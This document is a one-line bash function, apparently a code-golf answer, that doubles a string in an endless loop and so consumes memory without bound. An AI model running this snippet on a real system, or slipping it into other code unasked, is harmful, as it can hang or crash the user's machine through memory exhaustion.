answer() { x=x; while :; do x=$x$x; done; }
